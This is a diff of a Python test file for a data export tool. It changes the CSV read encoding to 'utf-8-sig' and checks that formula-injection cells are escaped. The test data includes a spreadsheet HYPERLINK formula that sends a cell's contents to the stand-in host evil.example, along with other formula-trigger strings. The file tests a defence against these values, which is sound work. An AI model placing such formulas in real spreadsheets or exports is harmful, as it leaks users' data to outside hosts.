@@ -347,7 +347,7 @@ def test_one_output_that_does_not_fit_the_tables_fails_alone(tmp_path, capsys, t
     if to == "sqlite":
         assert count(make_engine(str(dest / "x.sqlite")), "records") == N_RECORDS
     elif to == "csv":
-        with open(dest / "records.csv", encoding="utf-8", newline="") as f:
+        with open(dest / "records.csv", encoding="utf-8-sig", newline="") as f:
             assert len(list(csv.DictReader(f))) == N_RECORDS
     else:
         import pyarrow.parquet as pq
@@ -366,13 +366,13 @@ def test_csv_cells_that_a_spreadsheet_would_run_are_escaped(tmp_path):
     outdir = _edited_copy(tmp_path, "hostile.txt.json", hostile)
     dest = tmp_path / "csv"
     assert main(["export", str(outdir), "--csv", str(dest)]) == 0
-    with open(dest / "records.csv", encoding="utf-8", newline="") as f:
+    with open(dest / "records.csv", encoding="utf-8-sig", newline="") as f:
         rows = [r for r in csv.DictReader(f) if r["document"] == "hostile.txt"]
     qs = [r for r in rows if r["type"] == "quantity"]
     assert [q["metric"] for q in qs[:4]] == [
         '\'=HYPERLINK("http://evil.example/?"&A1,"专利授权量")', "'@SUM(1+1)", "'+1", "'\t=1"]
     assert qs[4]["value"] == "-2.3"                  # a number is not text: left as it is
-    with open(dest / "documents.csv", encoding="utf-8", newline="") as f:
+    with open(dest / "documents.csv", encoding="utf-8-sig", newline="") as f:
         docs = {r["name"]: r for r in csv.DictReader(f)}
     assert docs["hostile.txt"]["title"] == "'-2+3"
     assert docs["tianhe-ip-2023.txt"]["title"] == docs["tianhe-ip-2023.txt"]["title"].lstrip("'")
